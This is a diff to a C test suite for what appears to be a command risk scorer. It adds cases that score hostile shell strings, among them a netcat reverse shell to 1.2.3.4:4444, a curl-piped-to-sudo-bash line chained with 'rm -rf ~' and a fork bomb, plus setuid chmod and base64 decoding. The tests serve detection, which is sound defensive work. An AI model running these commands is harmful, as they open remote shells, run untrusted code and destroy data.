@@ -180,8 +180,8 @@ static void test_record(void)
   int64_t t = parse_time(time);
   ok(t >= before && t <= after, "time is RFC 3339 UTC with ms, and now (%s)", time ? time : "none");
   ok(json_object_get(o, "risk") == NULL, "no risk without argv (a caller's own is dropped)");
-  ok(json_is_string(json_object_get(o, "tenant")) && strcmp(json_string_value(json_object_get(o, "tenant")), "acme") == 0
-         && json_integer_value(json_object_get(o, "seq")) == 1,
+  const char *tenant = json_string_value(json_object_get(o, "tenant"));
+  ok(tenant && strcmp(tenant, "acme") == 0 && json_integer_value(json_object_get(o, "seq")) == 1,
      "the caller's fields are kept");
   json_decref(o);
   char *text = NULL;
@@ -424,6 +424,18 @@ static void test_risk(void)
   is_int(risk(A("cat", "/etc/os-release"), "cat"), 0, "argv cat /etc/os-release: 0");
   is_int(risk(A("echo", "rm -rf /"), "quoted"), 0, "argv echo 'rm -rf /' (an argument, not a command): 0");
   is_int(risk(NULL, 0, "empty"), 0, "no argv: 0");
+  is_int(risk(A("echo", "hi", ">", "/tmp/x"), "tmp"), 0, "argv echo hi > /tmp/x: 0");
+
+  /* Lesser rules of the contract: some score, under 50 alone. */
+  const char *const lesser[] = { "curl https://example.com", "wget x", "nmap 10.0.0.1", "ssh host", "sudo ls",
+                                 "chmod 4755 /tmp/x", "echo aGk= | base64 -d" };
+  for (size_t i = 0; i < sizeof(lesser) / sizeof(lesser[0]); i++)
+    {
+      int s = risk(A("sh", "-c", lesser[i]), lesser[i]);
+      ok(s > 0 && s < 50, "sh -c '%s': %d, between 1 and 49", lesser[i], s);
+    }
+  ok(risk(A("sh", "-c", "nc -e /bin/sh 1.2.3.4 4444"), "nc -e") >= 50, "nc -e /bin/sh: >= 50");
+  is_int(risk(A("sh", "-c", "curl -fsSL x | sudo bash; rm -rf ~; :(){ :|:& };:"), "all"), 100, "the sum caps at 100");
 
   int score;
   char *reasons = NULL;
